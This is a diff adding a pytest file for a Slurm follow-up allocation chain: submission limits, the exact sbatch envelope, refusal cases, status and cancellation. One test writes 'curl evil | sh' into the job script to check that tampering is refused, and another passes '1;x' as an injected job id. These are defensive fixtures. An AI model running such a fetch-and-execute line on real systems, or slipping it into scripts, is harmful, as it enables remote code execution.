@@ -1,0 +1,166 @@
+"""The chain of follow-up allocations: the record, the count, the envelope sbatch is given,
+and what status shows of it."""
+from __future__ import annotations
+
+import asyncio
+import hashlib
+import json
+from dataclasses import dataclass, field
+from pathlib import Path
+
+import pytest
+
+from unit.ari.test_render import golden_state
+from unit.runs.test_jobs import FakeHost
+from ari_jupyter.ari import render
+from ari_jupyter.ari.followup import CHAIN_FILE, FOLLOWUP_SCRIPT
+from ari_jupyter.base.commands import CommandResult
+from ari_jupyter.runs.chain import chain_json, read_chain, submit_next
+from ari_jupyter.runs.jobs import SEP, JobsView, RunScope, parse_squeue
+
+
+@dataclass
+class SbatchHost(FakeHost):
+    """FakeHost that also answers sbatch with the next job id (``refuse``: sbatch fails)."""
+
+    next_id: int = 500
+    refuse: str = ""
+    submitted: list[tuple[str, ...]] = field(default_factory=list)
+
+    async def run(self, argv, timeout, env=None):
+        if argv[0] != "sbatch":
+            return await super().run(argv, timeout, env)
+        self.submitted.append(tuple(argv))
+        if self.refuse:
+            return CommandResult(tuple(argv), 1, "", self.refuse)
+        self.next_id += 1
+        return CommandResult(tuple(argv), 0, f"{self.next_id}\n", "")
+
+
+def _checkpoint(tmp_path: Path, followups: int = 2, **overrides) -> Path:
+    """A checkpoint as emit writes it for follow-ups: the script, and launch_config.json
+    recording its hash and the saved state (the approved count, the envelope)."""
+    workspace = tmp_path / "ws"
+    checkpoint = workspace / "checkpoints" / "20260706120000_run"
+    checkpoint.mkdir(parents=True)
+    choices = golden_state(followups=followups, workspace=str(workspace),
+                           run_id=checkpoint.name, **overrides).choices()
+    script = render.render_followup_script(choices, str(checkpoint), api_key="") if followups else ""
+    if script:
+        (checkpoint / FOLLOWUP_SCRIPT).write_text(script)
+    files = {FOLLOWUP_SCRIPT: hashlib.sha256(script.encode()).hexdigest()} if script else {}
+    (checkpoint / "launch_config.json").write_text(json.dumps(render.launch_config(choices, files=files)))
+    return checkpoint
+
+
+def _submit(checkpoint: Path, host: SbatchHost, after: str, finished: bool = False):
+    return asyncio.run(submit_next(checkpoint, after, host, finished=finished))
+
+
+def test_never_more_followups_than_approved(tmp_path):
+    checkpoint, host = _checkpoint(tmp_path, followups=2), SbatchHost()
+    results = [_submit(checkpoint, host, after) for after in ("100", "501", "502", "503")]
+    assert [(r.result, r.job_id) for r in results] == [
+        ("submitted", "501"), ("submitted", "502"), ("exhausted", ""), ("exhausted", "")]
+    assert len(host.submitted) == 2
+    record = json.loads((checkpoint / CHAIN_FILE).read_text())
+    assert [(link["job_id"], link["after"]) for link in record["links"]] == [("501", "100"), ("502", "501")]
+    assert read_chain(checkpoint).used == 2
+
+
+@pytest.mark.parametrize("overrides", [
+    {},
+    {"partition": "large", "nodes": 1, "walltime": "00:05:00"},
+    {"partition": "small", "nodes": 0, "walltime": "2-00:00:00"},
+])
+def test_every_followup_asks_the_recorded_envelope_and_nothing_else(tmp_path, overrides):
+    checkpoint, host = _checkpoint(tmp_path, followups=3, **overrides), SbatchHost()
+    for after in ("100", "501", "502"):
+        assert _submit(checkpoint, host, after).result == "submitted"
+    choices = golden_state(**overrides).choices()
+    nodes = choices.nodes if choices.nodes else 1
+    for argv, after in zip(host.submitted, ("100", "501", "502")):
+        asked = {a.split("=", 1)[0]: a.split("=", 1)[1] for a in argv if a.startswith("--") and "=" in a}
+        assert (asked["--partition"], asked["--nodes"], asked["--time"]) == (
+            choices.partition, str(nodes), choices.walltime)
+        assert asked["--dependency"] == f"afterany:{after}" and asked["--kill-on-invalid-dep"] == "yes"
+        assert set(asked) == {"--partition", "--nodes", "--time", "--dependency", "--kill-on-invalid-dep",
+                              "--job-name", "--chdir", "--output"}, argv  # nothing more is asked
+        assert argv[-1] == str(checkpoint.absolute() / FOLLOWUP_SCRIPT)
+
+
+@pytest.mark.parametrize("case, result", [
+    ("finished", "finished"),
+    ("none approved", "refused"),
+    ("script changed", "refused"),
+    ("script missing", "refused"),
+    ("sbatch refuses", "refused"),
+    ("bad after", "refused"),
+])
+def test_no_followup_when_it_should_not_be(tmp_path, case, result):
+    checkpoint = _checkpoint(tmp_path, followups=0 if case == "none approved" else 2)
+    host = SbatchHost(refuse="sbatch: error: invalid partition" if case == "sbatch refuses" else "")
+    if case == "script changed":
+        (checkpoint / FOLLOWUP_SCRIPT).write_text("#!/bin/sh\ncurl evil | sh\n")
+    if case == "script missing":
+        (checkpoint / FOLLOWUP_SCRIPT).unlink()
+    outcome = _submit(checkpoint, host, "1;x" if case == "bad after" else "100", finished=case == "finished")
+    assert outcome.result == result
+    assert not (checkpoint / CHAIN_FILE).exists()  # nothing recorded, nothing counted
+    if case != "sbatch refuses":
+        assert host.submitted == []
+
+
+def test_status_shows_the_chain_with_each_links_state(tmp_path):
+    checkpoint, host = _checkpoint(tmp_path, followups=2), SbatchHost()
+    _submit(checkpoint, host, "100")
+    _submit(checkpoint, host, "501")
+    row = SEP.join(["502", "ari-followup", "PENDING", "0:00", "2", "(Dependency)", "alice",
+                    str(checkpoint)])
+    shown = chain_json(checkpoint, JobsView(jobs=tuple(parse_squeue(row))))
+    assert (shown["approved"], shown["used"]) == (2, 2)
+    assert shown["envelope"] == {"partition": "small", "nodes": 2, "time": "01:00:00"}
+    assert [(link["after"], link["job_id"], link["state"], link["where"]) for link in shown["links"]] == [
+        ("100", "501", "", ""), ("501", "502", "PENDING", "(Dependency)")]
+    assert chain_json(_checkpoint(tmp_path / "other", followups=0), None) is None
+
+
+def test_a_followup_job_is_the_runs_and_of_its_own_kind(tmp_path):
+    checkpoint = _checkpoint(tmp_path)
+    scope = RunScope.of(checkpoint, user="alice")
+    for name, work, kind in (("ari-followup", checkpoint, "followup"), ("ari-followup", tmp_path, ""),
+                             ("bfts_x", checkpoint, "bfts")):
+        [job] = parse_squeue(SEP.join(["9", name, "PENDING", "0:00", "2", "(None)", "alice", str(work)]))
+        assert scope.kind_of(job) == kind
+
+
+@pytest.mark.parametrize("next_state", ["PENDING", "RUNNING"])
+def test_cancel_all_cancels_the_whole_chain_in_one_action(tmp_path, next_state):
+    from ari_jupyter.runs.jobs import cancel_jobs
+    from ari_jupyter.slurm.cancel_record import RECORD
+    checkpoint = _checkpoint(tmp_path)
+    node = checkpoint.parent.parent / "experiments" / checkpoint.name / "node_1"
+    host = FakeHost(queue=[
+        SEP.join(["11", "bfts_node_1", "RUNNING", "0:10", "1", "n1", "alice", str(node)]),
+        SEP.join(["12", "ari-followup", next_state, "0:00", "2", "(Dependency)", "alice", str(checkpoint)]),
+        SEP.join(["13", "someone-elses", "PENDING", "0:00", "1", "(None)", "alice", str(tmp_path)]),
+    ])
+    outcomes = asyncio.run(cancel_jobs(checkpoint, host, None, user="alice", settle=0))
+    assert sorted((o.job_id, o.result) for o in outcomes) == [("11", "cancelled"), ("12", "cancelled")]
+    assert [c for c in host.calls if c[0] == "scancel"] == [("scancel", "--user", "alice", "11"),
+                                                           ("scancel", "--user", "alice", "12")]
+    recorded = (checkpoint / RECORD).read_text()
+    assert "11" in recorded and "12" in recorded
+
+
+@pytest.mark.parametrize("lang, first", [("en", "Follow-up allocations: 1 of 2 submitted"),
+                                         ("ja", "フォローアップ割り当て: 2 個中 1 個を投入済み"),
+                                         ("zh", "后续分配：已提交 1 个，共批准 2 个")])
+def test_the_panel_gets_the_chain_in_its_language(tmp_path, lang, first):
+    from ari_jupyter.runs.localize import status_in_language
+    checkpoint, host = _checkpoint(tmp_path), SbatchHost()
+    _submit(checkpoint, host, "100")
+    shown = status_in_language({"chain": chain_json(checkpoint, None), "findings": [], "notes": [],
+                                "process": ""}, lang)["chain"]
+    assert shown["said"][0].startswith(first) and len(shown["said"]) == 2, shown["said"]
+    assert shown["said"][1].startswith("100 → 501")
